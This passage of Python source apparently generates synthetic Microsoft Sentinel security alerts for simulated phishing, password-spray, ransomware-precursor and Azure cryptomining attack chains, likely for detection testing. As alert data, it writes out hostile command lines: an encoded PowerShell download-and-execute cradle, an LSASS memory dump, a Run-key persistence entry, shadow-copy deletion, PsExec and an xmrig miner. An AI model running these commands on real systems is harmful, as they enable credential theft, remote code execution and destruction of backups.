        parent_key: str,
        parent_command_line: str,
    ) -> tuple[str, str, str]:
        """Host, account, parent and child process; returns (host, account, process) ids.

        Most rows list every object before anything refers to it, as Json.NET writes; some
        refer forward (the process names its parent and account before they appear), as in
        real exports too.
        """
        rng = self.rng
        created = end - rng.uniform(5, 300)
        parent_created = created - rng.uniform(20, 7200)
        host_id = self.host_mdatp(e, host)
        if rng.random() < 0.7:
            account_id = self.account_mdatp(e, person, host_id)
            parent_id = e.id()
            e.put(
                parent_id,
                {
                    "ProcessId": str(rng.randint(400, 65000)),
                    "CommandLine": parent_command_line,
                    "CreationTimeUtc": self.zulu(parent_created),
                    "ImageFile": self.image(e, parent_key),
                    "Host": _ref(host_id),
                    "Account": _ref(account_id),
                    "Type": "process",
                },
            )
            process_id = e.id()
            e.put(
                process_id,
                {
                    "ProcessId": str(rng.randint(400, 65000)),
                    "CommandLine": command_line,
                    "ElevationToken": "Default",
                    "CreationTimeUtc": self.zulu(created),
                    "ImageFile": self.image(e, key),
                    "ParentProcess": _ref(parent_id),
                    "Host": _ref(host_id),
                    "Account": _ref(account_id),
                    "Type": "process",
                },
            )
            return host_id, account_id, process_id
        process_id = e.id()
        image = self.image(e, key)
        parent_id, account_id = e.id(), e.id()
        e.items.append(
            {
                "$id": process_id,
                "ProcessId": str(rng.randint(400, 65000)),
                "CommandLine": command_line,
                "ElevationToken": "Default",
                "CreationTimeUtc": self.zulu(created),
                "ImageFile": image,
                "ParentProcess": _ref(parent_id),
                "Host": _ref(host_id),
                "Account": _ref(account_id),
                "Type": "process",
            }
        )
        e.items.append(
            {
                "$id": parent_id,
                "ProcessId": str(rng.randint(400, 65000)),
                "CommandLine": parent_command_line,
                "CreationTimeUtc": self.zulu(parent_created),
                "ImageFile": self.image(e, parent_key),
                "Host": _ref(host_id),
                "Type": "process",
            }
        )
        e.items.append(
            {
                "$id": account_id,
                "Name": person.sam,
                "NTDomain": NT_DOMAIN,
                "Sid": person.sid,
                "AadUserId": person.aad,
                "IsDomainJoined": True,
                "Host": _ref(host_id),
                "Type": "account",
            }
        )
        return host_id, account_id, process_id

    # -- the row --------------------------------------------------------------------

    def row(self, tg: float, end: float, alert: _Alert, status: str, ctx=None) -> dict:
        rng, rule = self.rng, alert.rule
        provider = rule.provider
        vendor_id = self.vendor_id(provider)
        ext = {**rule.ext, **alert.ext} if alert.ext else dict(rule.ext)
        link = ""
        links = ""
        if rule.defender:
            ext["IncidentId"] = self.incident(ctx) if ctx is not None else self.lone_incident()
            ext["Category"] = rule.tactics.split(", ")[0]
            if provider == "MCAS":
                link = f"https://contoso.portal.cloudappsecurity.com/#/alerts/{vendor_id}"
            else:
                link = f"https://security.microsoft.com/alerts/{vendor_id}?tid={AAD_TENANT_ID}"
        elif provider == "ASI Scheduled Alerts":
            query_end = end + rng.uniform(30, 240)
            ext["Correlation Id"] = _guid(rng)
            ext["Search Query Results Overall Count"] = str(rng.randint(1, 40))
            ext["Query Start Time UTC"] = self.ts(query_end - 3600)[:19] + "Z"
            ext["Query End Time UTC"] = self.ts(query_end)[:19] + "Z"
        else:  # Defender for Cloud
            link = (
                "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
                f"AlertBlade/alertId/{vendor_id}/subscriptionId/{self.subscription}"
                "/referencedFrom/alertDeepLink/location/westeurope"
            )
            links = self.encode(
                [{"Href": link, "Category": None, "Label": "Alert details", "Type": "webLink"}]
            )
        names = alert.names
        duration = alert.duration if alert.duration is not None else rng.uniform(0, 300)
        return {
            "TenantId": WORKSPACE_ID,
            "TimeGenerated": self.ts(tg),
            "DisplayName": rule.name,
            "AlertName": rule.name,
            "AlertSeverity": rule.severity,
            "Description": rule.description.format_map(names),
            "ProviderName": provider,
            "VendorName": "Microsoft",
            "VendorOriginalId": vendor_id,
            "SystemAlertId": _guid(rng),
            "ResourceId": alert.resource_id,
            "AlertType": rule.alert_type,
            "ConfidenceLevel": "",
            "ConfidenceScore": None,
            "IsIncident": False,
            "StartTime": self.ts(end - duration),
            "EndTime": self.ts(end),
            "ProcessingEndTime": self.ts(tg - rng.uniform(0.2, 8)),
            "RemediationSteps": rule.remediation,
            "ExtendedProperties": self.encode(ext),
            "Entities": self.encode(alert.ents.items),
            "SourceSystem": "Detection",
            "WorkspaceSubscriptionId": self.subscription,
            "WorkspaceResourceGroup": WORKSPACE_RESOURCE_GROUP,
            "ExtendedLinks": links,
            "ProductName": PRODUCT_NAMES[provider],
            "ProductComponentName": rule.component if alert.component is None else alert.component,
            "AlertLink": link,
            "Status": status,
            "CompromisedEntity": alert.compromised,
            "Tactics": rule.tactics,
            "Techniques": rule.techniques,
            "SubTechniques": rule.subtechniques,
            "Type": "SecurityAlert",
        }

    def lone_incident(self) -> str:
        incident = str(self.next_incident)
        self.next_incident += self.rng.randint(1, 4)
        return incident

    def updated(self, original: dict, tg: float, seconds_later: float) -> dict:
        """The same alert re-sent: a later status, end and processing time."""
        row = dict(original)
        row["TimeGenerated"] = self.ts(tg)
        old_end = datetime.fromisoformat(original["EndTime"]).replace(tzinfo=None)
        old_end_seconds = (old_end - self.t0).total_seconds()
        row["EndTime"] = self.ts(old_end_seconds + seconds_later * self.rng.uniform(0.2, 0.9))
        row["ProcessingEndTime"] = self.ts(tg - self.rng.uniform(0.2, 8))
        row["Status"] = "InProgress" if self.rng.random() < 0.55 else "Resolved"
        return row

    # -- shared entity shapes -------------------------------------------------------

    def mail_message(
        self,
        e: _Ents,
        p: _Person,
        *,
        network_message_id: str,
        internet_message_id: str,
        sender: str,
        sender_ip: str,
        subject: str,
        received: float,
        urls: list[str],
        threat: str = "Phish",
    ) -> str:
        # Real exports spell the type both ways.
        kind = "mailMessage" if self.rng.random() < 0.1 else "mail-message"
        return e.add(
            {
                "Recipient": p.upn,
                "Urls": urls,
                "Threats": [threat],
                "Sender": sender,
                "P1Sender": sender,
                "P2Sender": sender,
                "ReceivedDate": self.zulu(received),
                "NetworkMessageId": network_message_id,
                "InternetMessageId": internet_message_id,
                "Subject": subject,
                "SenderIP": sender_ip,
                "DeliveryAction": "Delivered",
                "DeliveryLocation": "Inbox",
                "Type": kind,
            }
        )

    def phish_message(self, e: _Ents, ctx, p: _Person) -> str:
        return self.mail_message(
            e,
            p,
            network_message_id=ctx.message_ids[p.upn_name],
            internet_message_id=ctx.internet_id,
            sender=ctx.sender,
            sender_ip=ctx.sender_ip.address,
            subject=ctx.subject,
            received=ctx.received,
            urls=[ctx.url],
        )

    def oauth_app(self, e: _Ents, app: tuple[str, str], app_id: str) -> str:
        name, permissions = app
        return e.add(
            {
                "OAuthAppId": app_id,
                "OAuthObjectId": str(uuid.uuid5(_RULE_NAMESPACE, app_id)),
                "Name": name,
                "Publisher": "",
                "Permissions": permissions.split(", "),
                "PermissionLevel": "High",
                "Type": "oauth-application",
            }
        )

    def ipc_signin(self, ctx, end: float, rule_name: str, p: _Person, ip: _Ip) -> _Alert:
        rng = self.rng
        e = _Ents()
        account_id = self.account_aad(e, p)
        e.add(ip.body)
        if rng.random() < 0.45:
            e.add(
                {
                    "SessionId": _hex(rng, 32),
                    "Account": _ref(account_id),
                    "UserAgent": rng.choice(USER_AGENTS),
                    "StartTimeUtc": self.zulu(end - rng.uniform(10, 600)),
                    "Type": "cloud-logon-session",
                }
            )
        ext = {
            "Client IP Address": ip.address,
            "Client Location": ip.where,
            "Request Id": _guid(rng),
            "Correlation Id": _guid(rng),
            "User Account": p.upn,
            "User Name": p.display,
        }
        names = _Names(account=p.upn, ip=ip.address, cloudapplication="Office 365 Exchange Online")
        return _Alert(self.rules[rule_name], e, names, p.upn, ext, duration=0.0)

    # -- attack 1: phishing ---------------------------------------------------------

    def plan_phishing(self, label: str):
        rng, w = self.rng, self.w
        victims: list[_Person] = []
        while len(victims) < rng.randint(3, 8):
            p = w.pick_person(rng)
            if p not in victims:
                victims.append(p)
        domain = w.phish_domain(rng)
        ctx = SimpleNamespace(
            label=label,
            incident=None,
            victims=victims,
            clicker=victims[0],
            sender=f"{rng.choice(SENDER_LOCALPARTS)}@{domain}",
            sender_ip=w.pick_external(rng),
            url=f"https://{domain}/{rng.choice(w.cat.LOOKALIKE_WORDS)}/{_hex(rng, 12)}",
            subject=rng.choice(PHISH_SUBJECTS).format(
                n=rng.randint(10000, 99999), n2=rng.randint(10, 99)
            ),
            message_ids={p.upn_name: _guid(rng) for p in victims},
            internet_id=f"<{_hex(rng, 24)}@{domain}>",
            received=0.0,
            attacker_ip=w.pick_external(rng),
            c2_ip=w.pick_external(rng),
            c2_domain=w.phish_domain(rng),
            parent=rng.choice(("outlook", "msedge", "explorer", "winword")),
            payload=(f"{rng.choice(w.cat.LOOKALIKE_WORDS)}{rng.randint(1, 99)}.dll", _hex(rng, 40)),
            payload_sha256=_hex(rng, 64),
            app=rng.choice(("Microsoft SharePoint Online", "Microsoft OneDrive for Business")),
        )
        click = rng.uniform(5, 30) * 60
        powershell = click + rng.uniform(2, 20) * 60
        signin = powershell + rng.uniform(60, 360) * 60
        download = signin + rng.uniform(30, 180) * 60
        steps = [
            (0.0, lambda end: self.phish_zap(ctx, end)),
            (click, lambda end: self.phish_click(ctx, end)),
            (powershell, lambda end: self.phish_powershell(ctx, end)),
            (
                signin,
                lambda end: self.ipc_signin(
                    ctx, end, "Unfamiliar sign-in properties", ctx.clicker, ctx.attacker_ip
                ),
            ),
            (download, lambda end: self.phish_download(ctx, end)),
        ]
        if rng.random() < 0.4:
            steps.append((signin + rng.uniform(5, 60) * 60, lambda end: self.ti_signin(ctx, end)))
        roll = rng.random()
        if roll < 0.3:
            steps.append((download + rng.uniform(5, 90) * 60, lambda end: self.inbox(ctx, end)))
        elif roll < 0.55:
            steps.append((download + rng.uniform(5, 90) * 60, lambda end: self.oauth(ctx, end)))
        # The mail arrived a little before the first alert about it.
        ctx.received = -rng.uniform(10, 40) * 60
        return ctx, steps

    def phish_zap(self, ctx, end: float) -> _Alert:
        rng = self.rng
        ctx.received += end  # relative to the first alert until now
        e = _Ents()
        shown = ctx.victims[:4]
        for p in shown:
            self.mailbox(e, p)
        e.add({"Url": ctx.url, "Type": "url"})
        e.add(ctx.sender_ip.body)
        for p in shown[:2]:
            self.phish_message(e, ctx, p)
        count = len(ctx.victims)
        e.add(
            {
                "NetworkMessageIds": list(ctx.message_ids.values()),
                "CountByDeliveryStatus": {"Delivered": count},
                "CountByThreatType": {"Phish": count},
                "Threats": ["Phish"],
                "Query": f'(Sender:"{ctx.sender}") AND (Subject:"{ctx.subject}")',
                "QueryTime": self.zulu(end),
                "MailCount": count,
                "IsVolumeAnomaly": False,
                "Source": "SimilarSubject",
                "ClusterSourceIdentifier": ctx.internet_id,
                "ClusterSourceType": "SimilarSubject",
                "ClusterQueryStartTime": self.zulu(end - 86400),
                "ClusterQueryEndTime": self.zulu(end),
                "ClusterGroup": "Phish",
                "Type": "mailCluster" if rng.random() < 0.5 else "mail-cluster",
            }
        )
        names = _Names(mailbox=ctx.victims[0].upn, url=ctx.url, ip=ctx.sender_ip.address)
        ext = {"Recipient count": str(count), "Sender": ctx.sender}
        return _Alert(self.rules["Email messages containing malicious URL removed after delivery"],
                      e, names, "", ext, duration=end - ctx.received)  # fmt: skip

    def phish_click(self, ctx, end: float) -> _Alert:
        p = ctx.clicker
        e = _Ents()
        self.account_aad(e, p)
        self.mailbox(e, p)
        e.add({"Url": ctx.url, "Type": "url"})
        self.phish_message(e, ctx, p)
        names = _Names(account=p.upn, mailbox=p.upn, url=ctx.url)
        return _Alert(
            self.rules["A potentially malicious URL click was detected"],
            e,
            names,
            p.upn,
            {"Clicked URL": ctx.url},
            duration=0.0,
        )

    def phish_powershell(self, ctx, end: float) -> _Alert:
        rng, p = self.rng, ctx.clicker
        host = p.host
        download = f"https://{ctx.c2_domain}/{_hex(rng, 10)}"
        script = f"IEX (New-Object Net.WebClient).DownloadString('{download}')"
        command = "powershell.exe -nop -w hidden -enc " + base64.b64encode(
            script.encode("utf-16-le")
        ).decode("ascii")
        parent_line = {
            "outlook": '"OUTLOOK.EXE" ',
            "msedge": f'"msedge.exe" --single-argument {ctx.url}',
            "explorer": r"C:\Windows\Explorer.EXE",
            "winword": f'"WINWORD.EXE" /n "C:\\Users\\{p.sam}\\Downloads\\Invoice.docm" /o ""',
        }[ctx.parent]
        e = _Ents()
        self.process_tree(e, end, host, p, "powershell", command, ctx.parent, parent_line)
        name, sha1 = ctx.payload
        directory = f"C:\\Users\\{p.sam}\\AppData\\Local\\Temp"
        self.file_with_hashes(e, directory, name, sha1, ctx.payload_sha256)
        e.add({"Url": download, "Type": "url"})
        e.add(ctx.c2_ip.body)
        names = _Names(
            account=f"{NT_DOMAIN}\\{p.sam}", host=host.mdatp["HostName"], process=command
        )
        return _Alert(
            self.rules["Suspicious PowerShell command line"],
            e,
            names,
            host.mdatp["HostName"],
        )

    def ti_signin(self, ctx, end: float) -> _Alert:
        e = _Ents()
        p = ctx.clicker
        self.account_sentinel(e, p)
        e.add(ctx.attacker_ip.body)
        custom = {"ThreatType": ["Phishing"], "ConfidenceScore": [str(self.rng.randint(60, 95))]}
        names = _Names(account=p.upn, ip=ctx.attacker_ip.address)
        return _Alert(
            self.rules["TI map IP entity to SigninLogs"],
            e,
            names,
            ext={"Custom Details": json.dumps(custom)},
        )

    def phish_download(self, ctx, end: float) -> _Alert:
        p = ctx.clicker
        e = _Ents()
        self.account_aad(e, p)
        self.cloud_app_mcas(e, ctx.app)
        e.add(ctx.attacker_ip.body)
        names = _Names(account=p.upn, cloudapplication=ctx.app, ip=ctx.attacker_ip.address)
        files = f"{self.rng.randint(300, 4000):,}"
        return _Alert(
            self.rules["Mass download by a single user"],
            e,
            names,
            p.upn,
            {"Files downloaded": files},
            duration=self.rng.uniform(600, 3600),
        )

    def inbox(self, ctx, end: float) -> _Alert:
        p = ctx.clicker
        e = _Ents()
        self.account_aad(e, p)
        self.mailbox(e, p)
        self.cloud_app_mcas(e, "Microsoft Exchange Online")
        e.add(ctx.attacker_ip.body)
        names = _Names(account=p.upn, mailbox=p.upn, cloudapplication="Microsoft Exchange Online")
        return _Alert(
            self.rules["Suspicious inbox manipulation rule"],
            e,
            names,
            p.upn,
            {"Rule name": "..", "Rule action": "MoveToFolder: RSS Subscriptions"},
        )

    def oauth(self, ctx, end: float) -> _Alert:
        rng, p = self.rng, ctx.clicker
        e = _Ents()
        self.account_aad(e, p)
        app = rng.choice(OAUTH_APPS)
        self.oauth_app(e, app, str(uuid.uuid5(_RULE_NAMESPACE, app[0])))
        self.cloud_app_mcas(e, "Microsoft 365")
        e.add(ctx.attacker_ip.body)
        names = _Names(account=p.upn, oauthapplication=app[0], ip=ctx.attacker_ip.address)
        return _Alert(
            self.rules["Unusual addition of credentials to an OAuth app"], e, names, p.upn
        )

    # -- attack 2: password spray ---------------------------------------------------

    def plan_spray(self, label: str):
        rng, w = self.rng, self.w
        targets = rng.sample(w.people, rng.randint(8, 25))
        ctx = SimpleNamespace(
            label=label,
            incident=None,
            ip=w.external[rng.randint(0, 60)],
            targets=targets,
            victim=targets[0],
            app=rng.choice(("Azure Portal", "Office 365 Exchange Online")),
        )
        steps = []
        runs = rng.randint(2, 4)
        for run in range(runs):
            steps.append((run * 3600.0, lambda end: self.spray_rule(ctx, end)))
        success = rng.uniform(10, 90) * 60
        steps.append(
            (
                success + rng.uniform(5, 30) * 60,
                lambda end: self.ipc_signin(ctx, end, "Password spray", ctx.victim, ctx.ip),
            )
        )
        if rng.random() < 0.5:
            steps.append((success + rng.uniform(10, 60) * 60, lambda end: self.brute(ctx, end)))
        if rng.random() < 0.4:
            rule = rng.choice(("Malicious IP address", "Anonymous IP address"))
            steps.append(
                (
                    success + rng.uniform(20, 120) * 60,
                    lambda end: self.ipc_signin(ctx, end, rule, ctx.victim, ctx.ip),
                )
            )
        if rng.random() < 0.3:
            steps.append((success + rng.uniform(30, 200) * 60, lambda end: self.disabled(ctx, end)))
        return ctx, steps

    def spray_rule(self, ctx, end: float) -> _Alert:
        rng = self.rng
        e = _Ents()
        shown = rng.sample(ctx.targets, min(10, len(ctx.targets)))
        if ctx.victim not in shown:
            shown[0] = ctx.victim
        for p in shown:
            self.account_sentinel(e, p)
        e.add(ctx.ip.body)
        self.cloud_app_aad(e, ctx.app)
        failed = rng.randint(len(ctx.targets) * 2, len(ctx.targets) * 6)
        custom = {"FailedSignIns": [str(failed)], "DistinctAccounts": [str(len(ctx.targets))]}
        names = _Names(
            ip=ctx.ip.address,
            count=str(len(ctx.targets)),
            cloudapplication=ctx.app,
            account=ctx.victim.upn,
        )
        return _Alert(
            self.rules["Password spray attack against Azure AD application"],
            e,
            names,
            ext={"Custom Details": json.dumps(custom)},
            duration=3600.0,
        )

    def brute(self, ctx, end: float) -> _Alert:
        e = _Ents()
        self.account_sentinel(e, ctx.victim)
        e.add(ctx.ip.body)
        self.cloud_app_aad(e, "Azure Portal")
        names = _Names(account=ctx.victim.upn, ip=ctx.ip.address, cloudapplication="Azure Portal")
        return _Alert(
            self.rules["Brute force attack against Azure Portal"], e, names, duration=1800.0
        )

    def disabled(self, ctx, end: float) -> _Alert:
        e = _Ents()
        self.account_sentinel(e, ctx.victim)
        e.add(ctx.ip.body)
        names = _Names(account=ctx.victim.upn, ip=ctx.ip.address)
        return _Alert(
            self.rules["Sign-ins from IPs that attempt sign-ins to disabled accounts"], e, names
        )

    # -- attack 3: ransomware precursor ---------------------------------------------

    def plan_ransomware(self, label: str):
        rng, w = self.rng, self.w
        first = w.pick_server(rng)
        while (second := w.pick_server(rng)) is first:
            pass
        malware = rng.choice(("Backdoor:Win64/CobaltStrike", "Trojan:Win64/BruteRatel",
                              "Backdoor:MSIL/AsyncRAT", "Trojan:Win32/IcedID"))  # fmt: skip
        ctx = SimpleNamespace(
            label=label,
            incident=None,
            admin=rng.choice(w.admins),
            first=first,
            second=second,
            dc=rng.choice(w.domain_controllers),
            c2_ip=w.pick_external(rng),
            malware=malware,
            value=rng.choice(("OneDriveUpdate", "SecurityHealth2", "MicrosoftEdgeUpd")),
            payload=(r"C:\ProgramData", f"{rng.choice(w.cat.LOOKALIKE_WORDS)}svc.exe"),
            hashes=(_hex(rng, 40), _hex(rng, 64)),
            word=rng.choice(w.cat.LOOKALIKE_WORDS),
            group=rng.choice(w.groups),
        )
        t = 0.0
        steps = [(t, lambda end: self.lsass(ctx, end))]
        if rng.random() < 0.5:
            steps.append((t + rng.uniform(5, 30) * 60, lambda end: self.mimikatz(ctx, end)))
        t += rng.uniform(10, 60) * 60
        steps.append((t, lambda end: self.asep(ctx, end)))
        t += rng.uniform(10, 30) * 60
        steps.append((t, lambda end: self.active_malware(ctx, end)))
        t += rng.uniform(10, 60) * 60
        steps.append((t, lambda end: self.pass_the_hash(ctx, end)))
        steps.append((t + rng.uniform(10, 60) * 60, lambda end: self.group_add(ctx, end)))
        if rng.random() < 0.6:
            steps.append((t + rng.uniform(20, 90) * 60, lambda end: self.psexec(ctx, end)))
        if rng.random() < 0.4:
            steps.append((t + rng.uniform(30, 120) * 60, lambda end: self.av_tamper(ctx, end)))
        if rng.random() < 0.35:
            steps.append((t + rng.uniform(60, 150) * 60, lambda end: self.shadow(ctx, end)))
        if rng.random() < 0.6:
            steps.append((t + rng.uniform(90, 240) * 60, lambda end: self.xdr(ctx, end)))
        if rng.random() < 0.3:
            steps.append((rng.uniform(0, t), lambda end: self.rdp(ctx, end)))
        return ctx, steps

    def _mdatp(self, name: str, e: _Ents, host: _Host, process: str, account: str) -> _Alert:
        names = _Names(
            account=account,
            host=host.mdatp["HostName"],
            process=process,
        )
        return _Alert(self.rules[name], e, names, host.mdatp["HostName"])

    def lsass(self, ctx, end: float) -> _Alert:
        e = _Ents()
        command = f"procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\{ctx.word}.dmp"
        host_id, _, _ = self.process_tree(
            e, end, ctx.first, ctx.admin, "procdump", command, "cmd", "cmd.exe"
        )
        e.put(
            e.id(),
            {
                "ProcessId": str(self.rng.randint(600, 1200)),
                "CommandLine": "",
                "ImageFile": self.image(e, "lsass"),
                "Host": _ref(host_id),
                "Type": "process",
            },
        )
        account = f"{NT_DOMAIN}\\{ctx.admin.sam}"
        return self._mdatp("Suspicious access to LSASS service", e, ctx.first, command, account)

    def mimikatz(self, ctx, end: float) -> _Alert:
        e = _Ents()
        host_id = self.host_mdatp(e, ctx.first)
        self.account_mdatp(e, ctx.admin, host_id)
        directory, name = BINARIES["mimikatz"]
        sha1, sha256 = self.w.hashes["mimikatz"]
        self.file_with_hashes(e, directory, name, sha1, sha256)
        alert = self._mdatp("Mimikatz credential theft tool", e, ctx.first, "", ctx.admin.sam)
        alert.names["filehash"] = sha256
        return alert

    def asep(self, ctx, end: float) -> _Alert:
        e = _Ents()
        directory, name = ctx.payload
        key = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
        command = f'reg.exe add HKLM\\{key} /v {ctx.value} /t REG_SZ /d "{directory}\\{name}" /f'
        self.process_tree(e, end, ctx.first, ctx.admin, "reg", command, "cmd", "cmd.exe /c run.bat")
        key_id = e.add({"Hive": "HKEY_LOCAL_MACHINE", "Key": key, "Type": "registry-key"})
        e.add(
            {
                "Key": _ref(key_id),
                "Name": ctx.value,
                "Value": f"{directory}\\{name}",
                "ValueType": "String",
                "Type": "registry-value",
            }
        )
        alert = self._mdatp("Anomaly detected in ASEP registry", e, ctx.first, command, "")
        alert.names["registrykey"] = f"HKEY_LOCAL_MACHINE\\{key}"
        return alert

    def active_malware(self, ctx, end: float) -> _Alert:
        e = _Ents()
        host_id = self.host_mdatp(e, ctx.first)
        self.account_mdatp(e, ctx.admin, host_id)
        directory, name = ctx.payload
        file_id = self.file_with_hashes(e, directory, name, *ctx.hashes)
        category = MALWARE_CATEGORIES.get(ctx.malware.split(":")[0], "Trojan")
        e.add(
            {"Name": ctx.malware, "Category": category, "Files": [_ref(file_id)], "Type": "malware"}
        )
        e.add(ctx.c2_ip.body)
        account = f"{NT_DOMAIN}\\{ctx.admin.sam}"
        alert = self._mdatp("Active malware was detected", e, ctx.first, "", account)
        alert.names.update(malware=ctx.malware, file=f"{directory}\\{name}")
        alert.ext = {"ThreatName": ctx.malware, "ThreatFamily": ctx.malware.split("/")[-1]}
        return alert

    def pass_the_hash(self, ctx, end: float) -> _Alert:
        e = _Ents()
        self.account_mdi(e, ctx.admin)
        e.add(ctx.first.mdi)
        e.add(ctx.second.mdi)
        self.ip_internal(e, ctx.first.ip)
        names = _Names(
            account=ctx.admin.sam, source=ctx.first.name, host=ctx.second.name, ip=ctx.first.ip
        )
        return _Alert(
            self.rules["Suspected identity theft (pass-the-hash)"], e, names, ctx.second.name
        )

    def group_add(self, ctx, end: float) -> _Alert:
        dn, sid, guid, group = ctx.group
        e = _Ents()
        self.account_mdi(e, ctx.admin)
        e.add({"DistinguishedName": dn, "SID": sid, "ObjectGuid": guid, "Type": "security-group"})
        e.add(ctx.dc.mdi)
        names = _Names(account=ctx.admin.sam, securitygroup=group, host=ctx.dc.name)
        return _Alert(
            self.rules["Suspicious additions to sensitive groups"], e, names, ctx.admin.sam
        )

    def psexec(self, ctx, end: float) -> _Alert:
        e = _Ents()
        command = f"PSEXESVC.exe -s C:\\Windows\\Temp\\{ctx.word}.exe"
        self.process_tree(
            e, end, ctx.second, ctx.admin, "psexesvc", command, "services", "services.exe"
        )
        self.ip_internal(e, ctx.first.ip)
        account = f"{NT_DOMAIN}\\{ctx.admin.sam}"
        alert = self._mdatp("Lateral movement using PsExec", e, ctx.second, command, account)
        alert.names["ip"] = ctx.first.ip
        return alert

    def av_tamper(self, ctx, end: float) -> _Alert:
        e = _Ents()
        host_id = self.host_mdatp(e, ctx.second)
        self.account_mdatp(e, ctx.admin, host_id)
        key = r"SOFTWARE\Policies\Microsoft\Windows Defender"
        e.add({"Hive": "HKEY_LOCAL_MACHINE", "Key": key, "Type": "registry-key"})
        account = f"{NT_DOMAIN}\\{ctx.admin.sam}"
        alert = self._mdatp(
            "Tampering with Microsoft Defender Antivirus settings", e, ctx.second, "", account
        )
        alert.names["registrykey"] = f"HKEY_LOCAL_MACHINE\\{key}"
        return alert

    def shadow(self, ctx, end: float) -> _Alert:
        e = _Ents()
        command = "vssadmin.exe delete shadows /all /quiet"
        parent = f"cmd.exe /c C:\\Windows\\Temp\\{ctx.word}.bat"
        self.process_tree(e, end, ctx.second, ctx.admin, "vssadmin", command, "cmd", parent)
        return self._mdatp("System recovery setting tampering", e, ctx.second, command, "")

    def xdr(self, ctx, end: float) -> _Alert:
        e = _Ents()
        first = self.host_mdatp(e, ctx.first)
        self.host_mdatp(e, ctx.second)
        self.account_mdatp(e, ctx.admin, first)
        e.add(ctx.c2_ip.body)
        account = f"{NT_DOMAIN}\\{ctx.admin.sam}"
        return self._mdatp(
            "Ransomware-linked emerging threat activity group detected",
            e,
            ctx.first,
            "",
            account,
        )

    def rdp(self, ctx, end: float) -> _Alert:
        e = _Ents()
        self.account_sentinel(e, ctx.admin, windows=True)
        self.host_sentinel(e, ctx.first)
        source = self.w.admins.index(ctx.admin) % len(self.w.workstations)
        self.ip_internal(e, self.w.workstations[source].ip)
        names = _Names(account=ctx.admin.sam, host=ctx.first.name, ip=ctx.first.ip)
        return _Alert(self.rules["Anomalous RDP Login Detections"], e, names)

    # -- attack 4: Azure resources (Defender for Cloud) -----------------------------

    def plan_cloud(self, label: str):
        rng, w = self.rng, self.w
        ctx = SimpleNamespace(
            label=label,
            incident=None,
            vm=w.pick_vm(rng),
            ip=w.pick_external(rng),
            pool_ip=w.pick_external(rng),
            pool=f"pool.{rng.choice(('minexmr', 'supportxmr', 'xmrpool', 'moneroocean'))}"
            f"{rng.randint(1, 9)}.{rng.choice(w.cat.TLDS)}",
            user=w.pick_person(rng),
            vault=rng.choice(w.vaults),
            storage=rng.choice(w.storage),
        )
        t = rng.uniform(10, 60) * 60
        steps = [(0.0, lambda end: self.vm_brute(ctx, end)), (t, lambda end: self.mining(ctx, end))]
        if rng.random() < 0.6:
            steps.append((t + rng.uniform(5, 60) * 60, lambda end: self.dns(ctx, end)))
        if rng.random() < 0.5:
            steps.append((t + rng.uniform(30, 180) * 60, lambda end: self.vault(ctx, end)))
        if rng.random() < 0.4:
            steps.append((t + rng.uniform(30, 180) * 60, lambda end: self.blob(ctx, end)))
        return ctx, steps

    def _asc(self, name: str, e: _Ents, res: _Resource, names: dict, **ext) -> _Alert:
        kind = {"vm": "Virtual Machine", "kv": "Key Vault", "st": "Storage"}[res.kind]
        names.setdefault("azureresource", res.name)
        ext = {"Resource type": kind, "resourceType": kind, **ext}
        rule = self.rules[name]
        component = (
            rule.component or {"vm": "Servers", "kv": "KeyVaults", "st": "Storage"}[res.kind]
        )
        return _Alert(rule, e, names, res.name, ext, res.resource_id, component)

    def vm_brute(self, ctx, end: float) -> _Alert:
        e = _Ents()
        vm = ctx.vm
        self.azure_resource(e, vm)
        host_id = self.host_asc(e, vm)
        e.add(ctx.ip.body)
        names = _Names(host=vm.name, ip=ctx.ip.address)
        ext = {"Attacker source IP": f"IP Address: {ctx.ip.address}"}
        if vm.os == "Linux":
            e.add({"Name": "azureuser", "Host": _ref(host_id), "Type": "account"})
            names["account"] = "azureuser"
            alert = self._asc("Successful SSH brute force attack", e, vm, names, **ext)
        else:
            ext["Failed attempts"] = str(self.rng.randint(200, 9000))
            alert = self._asc("Suspicious authentication activity", e, vm, names, **ext)
        alert.duration = self.rng.uniform(1800, 7200)
        return alert

    def mining(self, ctx, end: float) -> _Alert:
        rng, vm = self.rng, ctx.vm
        e = _Ents()
        self.azure_resource(e, vm)
        host_id = self.host_asc(e, vm)
        if vm.os == "Linux":
            directory, name = "/tmp/.X11-unix", "xmrig"
        else:
            directory, name = r"C:\Windows\Temp", "xmrig.exe"
        command = f"{name} -o stratum+tcp://{ctx.pool}:3333 -u {_hex(rng, 40)} -k --tls"
        e.put(
            e.id(),
            {
                "ProcessId": str(rng.randint(1000, 60000)),
                "CommandLine": command,
                "ImageFile": {
                    "$id": e.id(),
                    "Directory": directory,
                    "Name": name,
                    "Type": "file",
                },
                "Host": _ref(host_id),
                "Type": "process",
            },
        )
        e.add({"DomainName": ctx.pool, "Type": "dns"})
        names = _Names(host=vm.name, process=command, dns=ctx.pool)
        return self._asc("Digital currency mining related behavior detected", e, vm, names)

    def dns(self, ctx, end: float) -> _Alert:
        vm = ctx.vm
        e = _Ents()
        self.azure_resource(e, vm)
        self.host_asc(e, vm)
        ip_id = e.add(ctx.pool_ip.body)
        e.add({"DomainName": ctx.pool, "IpAddresses": [_ref(ip_id)], "Type": "dns"})
        names = _Names(host=vm.name, dns=ctx.pool)
        return self._asc(
            "Communication with suspicious domain identified by threat intelligence",
            e,
            vm,
            names,
            DomainName=ctx.pool,
        )

    def vault(self, ctx, end: float) -> _Alert:
        e = _Ents()
        self.azure_resource(e, ctx.vault)
        p = ctx.user
        e.add(
            {"Name": p.upn_name, "UPNSuffix": self.w.domain, "AadUserId": p.aad, "Type": "account"}
        )
        e.add(ctx.ip.body)
        names = _Names(account=p.upn, ip=ctx.ip.address)
        return self._asc(
            "Unusual user accessed a key vault", e, ctx.vault, names, **{"Operations": "SecretGet"}
        )

    def blob(self, ctx, end: float) -> _Alert:
        e = _Ents()
        self.azure_resource(e, ctx.storage)
        e.add(ctx.ip.body)
        names = _Names(ip=ctx.ip.address)
        return self._asc("Access from a Tor exit node to a storage account", e, ctx.storage, names)

    # -- background noise -----------------------------------------------------------

    def noise(self, end: float) -> _Alert:
        r = self.rng.random()
        if r < 0.58:
            return self.noise_sentinel()
        if r < 0.88:
            return self.noise_defender(end)
        return self.noise_asc()

    def noise_sentinel(self) -> _Alert:
        rng, w = self.rng, self.w
